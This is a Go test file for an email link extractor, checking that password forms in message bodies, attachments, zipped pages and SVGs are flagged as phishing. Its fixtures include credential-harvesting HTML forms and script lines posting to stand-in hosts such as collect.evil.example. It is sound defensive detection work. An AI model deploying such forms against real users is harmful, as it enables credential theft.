package links

import (
	"bytes"
	"encoding/base64"
	"slices"
	"testing"
)

// pwMail is a message whose only HTML is doc: the body itself (header ""),
// or an attachment with the given part header under a short text part.
func pwMail(header, doc string) []byte {
	if header == "" {
		return []byte("Content-Type: text/html; charset=utf-8\r\n\r\n" + doc + "\r\n")
	}
	return []byte("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease review the attached remittance.\r\n" +
		"--b\r\n" + header + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(doc)) + "\r\n--b--\r\n")
}

// TestPasswordForms: the targets of a form that holds a password field
// carry FlagPassword, wherever the form is (the body, an attached page, a
// zipped page, HTML drawn in an SVG), however the type is written; a
// password field whose form sends it nowhere read marks the message
// (PasswordField) when its document runs script, which posts it; other
// forms and fields mark nothing.
func TestPasswordForms(t *testing.T) {
	const (
		page   = "Content-Type: text/html\r\nContent-Disposition: attachment; filename=\"Remittance.html\""
		octet  = "Content-Type: application/octet-stream; name=\"scan.htm\""
		svg    = "Content-Type: image/svg+xml; name=\"Statement.svg\""
		zipped = "zip"
		form   = `<form action="https://collect.evil.example/p" method="post"><input name="u"><input type="password" name="p"><button>Sign in</button></form>`
	)
	for _, tc := range []struct {
		name, header, doc string
		marked            []string // hosts of the links with FlagPassword, in order
		field             bool     // Extracted.PasswordField
	}{
		{"a password form in the body", "", `<p>Sign in to view</p>` + form, []string{"collect.evil.example"}, false},
		{"in an attached page", page, `<html><body>` + form + `</body></html>`, []string{"collect.evil.example"}, false},
		{"in a page sent as octet-stream", octet, form, []string{"collect.evil.example"}, false},
		{"in a zipped page", zipped, form, []string{"collect.evil.example"}, false},
		{"type in capitals, unquoted", "", `<FORM ACTION=https://collect.evil.example/p><INPUT TYPE=PASSWORD NAME=p></FORM>`, []string{"collect.evil.example"}, false},
		{"type in single quotes with spaces", "", `<form action='https://collect.evil.example/p'><input type=' Password ' name='p'></form>`, []string{"collect.evil.example"}, false},
		{"type written with a character reference", "", `<form action="https://collect.evil.example/p"><input type="&#112;assword"></form>`, []string{"collect.evil.example"}, false},
		{"the field before a button's formaction", "", `<form action="https://a.evil.example/"><input type=password><button formaction="https://b.evil.example/">Go</button></form>`, []string{"a.evil.example", "b.evil.example"}, false},
		{"HTML drawn in an SVG", svg, `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject width="300" height="200"><form xmlns="http://www.w3.org/1999/xhtml" action="https://collect.evil.example/p"><input type="PassWord"/></form></foreignObject><a href="https://view.evil.example/"><text>Open</text></a></svg>`, []string{"collect.evil.example"}, false},
		{"an SVG drawn in the body", "", `<svg><foreignObject>` + form + `</foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a form without action posted by script", page, `<form id="f"><input type="email"><input type="password"></form><script>fetch("https://collect.evil.example/p",{method:"POST"})</script>`, nil, true},
		{"a field outside any form sent by a handler", page, `<div><input type="password" id="p"><button onclick="send()">Next</button></div>`, nil, true},
		{"an empty action and a submit handler", page, `<form action="" onsubmit="return go(this)"><input type="password"></form>`, nil, true},
		{"a form without action in a scripted SVG", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject><script>fetch("/x")</script></svg>`, nil, true},
		{"a zipped page posting by script", zipped, `<input type=password id=p><script src="https://cdn.evil.example/k.js"></script>`, nil, true},
		{"a field in the body beside a script", "", `<p>Confirm your password</p><input type=password><script>go()</script>`, nil, true},
		{"a field without any form or script sends nothing", page, `<div><input type="password" id="p"></div>`, nil, false},
		{"a zipped sign-in template (relative action, no script)", zipped, `<form action="/account/login" method="post"><input name="u"><input type="password" name="p"></form>`, nil, false},
		{"a form without action in an SVG without script", svg, `<svg><foreignObject><form><input type="password"/></form></foreignObject></svg>`, nil, false},
		{"a field in the body outside a form, no script", "", `<p>Confirm your password</p><input type=password>`, nil, false},
		{"a search form", "", `<form action="https://shop.example/search"><input type="search" name="q"><input type="submit"></form>`, nil, false},
		{"a newsletter sign-up", page, `<form action="https://list.example/sub"><input type="email" name="e"><input type="text" value="password"></form>`, nil, false},
		{"the word password only in text", "", `<p>Reset your password at <a href="https://id.example/reset">id.example</a></p>`, nil, false},
		{"a password field after its form closed", page, `<form action="https://a.example/s"><input name="q"></form><input type="password"><script>go()</script>`, nil, true},
		{"two forms, the second with the field", "", `<form action="https://search.example/"><input name=q></form><form action="https://collect.evil.example/p"><input type=password></form>`, []string{"collect.evil.example"}, false},
		{"a form left open to the end", page, `<form action="https://collect.evil.example/p"><input type=password>`, []string{"collect.evil.example"}, false},
		{"a field outside that names its form", page, `<form id="f" action="https://collect.evil.example/p"><input name="u"><button>Sign in</button></form><input type="password" name="p" form="f">`, []string{"collect.evil.example"}, false},
		{"a field that names its form before it", "", `<input type=password form=f><form id=f action="https://collect.evil.example/p"><input name=u></form>`, []string{"collect.evil.example"}, false},
		{"a field in one form that names another", page, `<form action="https://search.example/"><input type=password form=x></form><form id=x action="https://collect.evil.example/p"></form>`, []string{"search.example", "collect.evil.example"}, false},
		{"a field that names its form in an SVG", svg, `<svg><foreignObject><form id="f" action="https://collect.evil.example/p"/><input type="password" form="f"/></foreignObject></svg>`, []string{"collect.evil.example"}, false},
		{"a field that names a form no document holds, with script", page, `<input type=password form=nowhere><script>go()</script>`, nil, true},
		{"a hidden input named password", "", `<form action="https://a.example/"><input type="hidden" name="password"></form>`, nil, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			msg := pwMail(tc.header, tc.doc)
			if tc.header == zipped {
				msg = zipMail("Content-Type: application/zip; name=\"Remittance.zip\"", ooxml(map[string]string{"Remittance.html": tc.doc}))
			}
			x, err := ExtractAll(msg, Options{})
			if err != nil {
				t.Fatal(err)
			}
			var marked []string
			for _, l := range x.Links {
				if l.Flags.Has(FlagPassword) {
					marked = append(marked, l.Host)
					if l.Kind != KindForm && !l.Flags.Has(FlagSubmits) {
						t.Errorf("link %s of kind %s carries FlagPassword but is no form's target", l.Host, l.Kind)
					}
				}
			}
			if !slices.Equal(marked, tc.marked) || x.PasswordField != tc.field {
				t.Errorf("ExtractAll(%s): FlagPassword on %q, PasswordField %v; want %q, %v", tc.name, marked, x.PasswordField, tc.marked, tc.field)
			}
		})
	}
}

// FuzzPasswordForms: the HTML and SVG readers mark only a form's targets,
// and nothing at all in a document that cannot spell "password" (in any
// case, or by a character reference).
func FuzzPasswordForms(f *testing.F) {
	f.Add([]byte(`<form action="https://a.example/"><input type=password></form>`))
	f.Add([]byte(`<svg><foreignObject><form action="//b.example"><input type="PASSWORD"/><button formaction="https://c.example/">x</button></form></foreignObject></svg>`))
	f.Add([]byte(`<form><form action="https://d.example/"><input type='&#112;assword'></form></form><input type=password>`))
	f.Add([]byte(`<input type=password form=f><form id=f action="https://e.example/"></form><svg><input type="password" form="g"/></svg>`))
	f.Fuzz(func(t *testing.T, doc []byte) {
		possible := bytes.Contains(bytes.ToLower(doc), []byte("password")) || bytes.IndexByte(doc, '&') >= 0
		c := &collector{max: 20, hosts: hostCache{}}
		scanHTML(doc, c, -1)
		s := svgScanner{c: &collector{max: 20, hosts: hostCache{}}, doc: doc}
		s.run()
		for _, r := range []struct {
			c      *collector
			target func(*Link) bool
		}{{c, htmlFormTarget}, {s.c, svgFormTarget}} {
			for _, l := range r.c.links {
				if l.Flags.Has(FlagPassword) && (!possible || !r.target(&l)) {
					t.Fatalf("link %q of kind %s (flags %v) carries FlagPassword in %q", l.Raw, l.Kind, l.Flags, doc)
				}
			}
			if r.c.password && !possible {
				t.Fatalf("a password field without the word in %q", doc)
			}
		}
	})
}
